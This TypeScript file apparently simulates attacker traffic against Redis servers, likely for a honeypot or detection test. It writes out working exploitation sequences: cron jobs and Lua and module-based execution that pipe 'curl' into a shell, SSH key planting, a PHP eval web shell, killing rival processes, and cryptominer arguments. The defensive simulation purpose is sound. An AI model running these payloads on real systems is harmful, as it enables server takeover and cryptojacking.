import type { Random } from '../../src/platform/random.ts';
import type { Operator } from './operator.ts';

type Argv = readonly [string, ...string[]];

/** What an operator sends in one visit at this part of the day (0 to 1); every one is a little different. */
export function visitOf(operator: Operator, part: number, random: Random): readonly Argv[] {
  const { hosts, pastes, keys } = operator;
  const host = hosts[Math.min(hosts.length - 1, Math.floor(part * hosts.length))] ?? '';
  const paste = pastes.length > 0 && random.below(3) === 0 ? pastes[0] : undefined;
  const url = paste ?? `http://${host}/${operator.style}${1 + random.below(2)}.sh`;
  const key = keys[0] ?? `x${random.hex(3)}`;
  const commands = [...STEPS[operator.style](operator, { host, url, key, random })];
  if (operator.tool !== undefined && random.below(2) === 0)
    commands.push(...cronLine(`t${random.hex(3)}`, operator.tool, random));
  return noisy(cut(commands, random), random);
}

interface Turn {
  readonly host: string;
  readonly url: string;
  readonly key: string;
  readonly random: Random;
}

type Steps = (operator: Operator, turn: Turn) => readonly Argv[];

const STEPS: Readonly<Record<Operator['style'], Steps>> = {
  cron: (operator, { url, key, random }) => [
    ['INFO'],
    ...cronLine(key, url, random, miner(operator)),
    ['CONFIG', 'SET', 'dir', '/var/spool/cron'],
    ['CONFIG', 'SET', 'dbfilename', 'root'],
    ['SAVE'],
  ],
  ssh: ({ sshKeys }, { key, random }) => [
    ['FLUSHALL'],
    ['SET', key, `\n\n\n${sshKeys[random.below(sshKeys.length)] ?? ''} ${random.hex(2)}@h\n\n\n`],
    ['CONFIG', 'SET', 'dir', '/root/.ssh'],
    ['CONFIG', 'SET', 'dbfilename', 'authorized_keys'],
    ['SAVE'],
  ],
  rogue: (operator, { host, url, random }) => [
    ['INFO', 'server'],
    ['CONFIG', 'SET', 'dbfilename', `${random.hex(2)}.so`],
    ['SLAVEOF', host, String(20_000 + random.below(3))],
    ['MODULE', 'LOAD', `./${random.hex(2)}.so`],
    ['SLAVEOF', 'NO', 'ONE'],
    ['system.exec', `${kill(operator)}curl -s ${url} | bash${miner(operator)}`],
    ['MODULE', 'UNLOAD', 'system'],
  ],
  web: ({ password, hosts: [host = ''] }, { key }) => [
    ['CONFIG', 'SET', 'dir', '/var/www/html'],
    ['CONFIG', 'SET', 'dbfilename', 'redis.php'],
    ['SET', key, `<?php @eval($_POST['${password}']); system("curl http://${host}/w | sh"); ?>`],
    ['SAVE'],
  ],
  lua: (operator, { url }) => [
    [
      'EVAL',
      `local l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = l(); local f = io.popen("${kill(operator)}curl ${url} | sh${miner(operator)}", "r"); return f:read("*a")`,
      '0',
    ],
  ],
};

function cronLine(key: string, url: string, random: Random, more = ''): readonly Argv[] {
  const empty = '\n'.repeat(2 + random.below(3));
  return [['SET', key, `${empty}*/${1 + random.below(59)} * * * * curl -fsSL ${url} | sh${more}${empty}`]];
}

const miner = ({ wallet }: Operator): string => (wallet === undefined ? '' : ` -s -- -u ${wallet}`);
const kill = ({ kills }: Operator): string => kills.map((host) => `pkill -f ${host}; `).join('');

/** 15 of 100 visits break off. */
function cut(commands: readonly Argv[], random: Random): readonly Argv[] {
  return random.below(100) < 15 ? commands.slice(0, 1 + random.below(commands.length)) : commands;
}

const CHAFF: readonly Argv[] = [
  ['PING'],
  ['CLIENT', 'LIST'],
  ['KEYS', '*'],
  ['GET', 'session:1'],
  ['DBSIZE'],
  ['CONFIG', 'GET', 'dir'],
];

/** 15 of 100 visits do something else as well. */
function noisy(commands: readonly Argv[], random: Random): readonly Argv[] {
  if (random.below(100) >= 15) return commands;
  const found = [...commands];
  for (let count = 1 + random.below(4); count > 0; count--)
    found.splice(random.below(found.length + 1), 0, CHAFF[random.below(CHAFF.length)] ?? ['PING']);
  return found;
}
